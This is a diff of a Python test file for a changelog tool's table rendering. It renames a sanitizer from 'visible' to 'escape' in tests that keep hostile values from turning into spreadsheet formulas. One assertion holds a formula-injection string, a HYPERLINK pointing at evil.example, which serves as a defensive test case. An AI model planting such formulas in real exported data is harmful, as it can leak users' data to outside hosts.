@@ -18,7 +18,7 @@ from hypothesis import strategies as st
 from changelog.model.diff import Change, group_changes
 from changelog.model.results.base import DidError
 from changelog.model.results.diff import DiffCounts, DiffedDid, DiffResult
-from changelog.model.text.sanitize import visible
+from changelog.model.text.sanitize import escape
 from changelog.render import markdown, sheet
 from changelog.render.tables import Table
 from changelog.sandbox.server import Sandbox
@@ -252,7 +252,7 @@ def spelled(value: Any, cell: str) -> Any:
     if value is None or value == []:
         return ""
     if isinstance(value, str):
-        return visible(value)
+        return escape(value)
     assert json.loads(cell) == value
     return cell
 
@@ -353,7 +353,7 @@ def test_markdown_shows_each_value_as_it_is(hostile: Program) -> None:
     (rows,) = tables_of(hostile.run("list", "--format", "markdown").stdout)
     found = {shown(row["did"]): shown(row["application_id"]) for row in rows}
     for name in HOSTILE.keys() - {"formula", "image", "autolink"}:
-        assert found[f"did_{name}"] == visible(HOSTILE[name]).strip()
+        assert found[f"did_{name}"] == escape(HOSTILE[name]).strip()
     assert found["did_formula"] == '=HYPERLINK("http://evil.example/?***","click")'
 
 
@@ -380,7 +380,7 @@ def test_a_table_has_as_many_cells_in_each_row_as_columns(rows: list[tuple[str, 
     for row, values in zip(read, rows, strict=True):
         assert row.keys() == set(content.columns)
         if not any("://" in value for value in values):
-            expected = [visible(f"x{value}").strip() for value in values]
+            expected = [escape(f"x{value}").strip() for value in values]
             assert [shown(cell) for cell in row.values()] == expected
 
 
@@ -390,7 +390,7 @@ def test_no_text_becomes_a_formula_and_each_can_be_had_back(rows: list[tuple[str
     _, *read = csv.reader(io.StringIO(sheet.csv_table(content)))
     assert not any(is_formula(cell) for row in read for cell in row)
     assert [[meant(cell) for cell in row] for row in read] == [
-        [visible(value) for value in row] for row in rows
+        [escape(value) for value in row] for row in rows
     ]
 
 
